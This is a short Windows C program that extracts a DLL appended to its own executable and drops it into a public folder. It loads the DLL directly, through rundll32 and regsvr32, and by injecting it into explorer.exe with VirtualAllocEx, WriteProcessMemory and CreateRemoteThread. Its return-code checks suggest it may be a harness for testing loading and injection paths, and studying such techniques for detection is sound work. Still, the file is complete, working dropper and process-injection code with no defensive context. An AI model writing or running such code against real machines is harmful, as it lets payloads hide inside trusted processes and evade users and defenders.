/* Carries a library at its end (its length in the last four bytes), drops it, and loads it in every way. */
#include <windows.h>
#include <tlhelp32.h>
#include <stdio.h>
#include <string.h>

static DWORD pid_of(const char *name)
{
    PROCESSENTRY32 entry = {sizeof entry};
    HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    DWORD pid = 0;
    for (BOOL more = Process32First(snapshot, &entry); more; more = Process32Next(snapshot, &entry))
        if (!lstrcmpiA(entry.szExeFile, name)) pid = entry.th32ProcessID;
    return pid;
}

static void start(const char *format, const char *path)
{
    char command[600];
    STARTUPINFOA si = {sizeof si};
    PROCESS_INFORMATION pi;
    snprintf(command, sizeof command, format, path);
    if (CreateProcessA(NULL, command, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi)) WaitForSingleObject(pi.hProcess, INFINITE);
}

int main(void)
{
    char self[MAX_PATH], path[] = "C:\\Users\\Public\\carried.dll";
    DWORD length = 0, n, total;
    GetModuleFileNameA(NULL, self, MAX_PATH);
    HANDLE h = CreateFileA(self, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    total = GetFileSize(h, NULL);
    SetFilePointer(h, total - 4, NULL, FILE_BEGIN);
    ReadFile(h, &length, 4, &n, NULL);
    char *data = (char *)HeapAlloc(GetProcessHeap(), 0, length);
    SetFilePointer(h, total - 4 - length, NULL, FILE_BEGIN);
    ReadFile(h, data, length, &n, NULL);
    CloseHandle(h);
    h = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    WriteFile(h, data, length, &n, NULL);
    CloseHandle(h);

    HMODULE library = LoadLibraryA(path);
    if (!library) return 1;
    int (*work)(int) = (int (*)(int))GetProcAddress(library, "Work");
    if (!work || work(4) != 5) return 2;
    start("rundll32.exe %s,Run now", path);
    start("regsvr32 /s \"%s\"", path);
    HANDLE target = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid_of("explorer.exe"));
    void *there = VirtualAllocEx(target, NULL, 4096, MEM_COMMIT, PAGE_READWRITE);
    WriteProcessMemory(target, there, path, sizeof path, NULL);
    void *loader = (void *)GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA");
    HANDLE thread = CreateRemoteThread(target, NULL, 0, (LPTHREAD_START_ROUTINE)loader, there, 0, NULL);
    WaitForSingleObject(thread, INFINITE);
    if (LoadLibraryA("no_such_library.dll")) return 3;
    return 0;
}
